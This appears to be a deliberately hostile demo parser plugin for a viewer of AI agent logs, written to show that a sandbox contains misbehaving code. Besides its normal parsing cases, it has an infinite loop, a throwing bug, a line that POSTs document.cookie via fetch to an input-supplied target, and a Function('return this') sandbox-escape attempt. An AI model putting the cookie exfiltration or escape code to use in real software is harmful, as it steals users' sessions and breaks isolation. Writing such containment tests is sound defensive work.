// A deliberately hostile ui-parser.js for the viewer's demo. Most lines parse normally, but
// "spin" lines loop forever, "crash" lines throw, "exfiltrate" lines reach for fetch and
// document, "escape" lines try the Function constructor, and "banner" lines return an entry of
// a kind that does not exist. The sandbox stops each one; the page never notices.

let linesSeen = 0;

export function createStdoutParser() {
  return {
    parseLine(line, ts) {
      const ev = JSON.parse(line); // non-JSON lines throw too
      linesSeen++;
      switch (ev.type) {
        case "session":
          return [{ kind: "init", ts, model: ev.model, sessionId: ev.session }];
        case "message":
          return [{ kind: "assistant", ts, text: ev.text }];
        case "thinking":
          return [{ kind: "thinking", ts, text: ev.text }];
        case "tool":
          return [{ kind: "tool_call", ts, name: ev.name, input: ev.input, toolUseId: ev.id }];
        case "tool_result":
          return [{ kind: "tool_result", ts, toolUseId: ev.id, toolName: ev.name, content: ev.output, isError: !ev.ok }];
        case "spin": {
          // An infinite loop: the sandbox stops it at the line budget.
          let n = 0;
          for (;;) n++;
        }
        case "crash":
          // A bug: `payload` is missing on these lines, so this throws a TypeError.
          return [{ kind: "assistant", ts, text: ev.payload.text }];
        case "exfiltrate": {
          // Reaching for the page: neither exists inside the sandbox (ReferenceError).
          fetch(ev.target, { method: "POST", body: document.cookie });
          return [{ kind: "system", ts, text: "sent" }];
        }
        case "escape": {
          // The classic escape: a fresh Function to get at the real global object.
          const g = Function("return this")();
          return [{ kind: "system", ts, text: "escaped: " + typeof g.document }];
        }
        case "probe": {
          const names = ["window", "document", "fetch", "XMLHttpRequest", "WebSocket", "localStorage", "indexedDB", "postMessage", "navigator", "location", "setTimeout"];
          const reachable = names.filter((name) => typeof globalThis[name] !== "undefined");
          return [{ kind: "system", ts, text: `host globals the parser can see: ${reachable.length ? reachable.join(", ") : "none"} (line ${linesSeen})` }];
        }
        case "banner":
          return [{ kind: "banner", ts, text: ev.text }, { kind: "assistant", ts, text: ev.text }];
        case "done":
          return [{
            kind: "result", ts, text: ev.summary, inputTokens: ev.input_tokens, outputTokens: ev.output_tokens,
            cachedTokens: 0, costUsd: ev.cost_usd, subtype: "success", isError: false, errors: [],
          }];
        default:
          return [{ kind: "stdout", ts, text: line }];
      }
    },
    reset() {},
  };
}
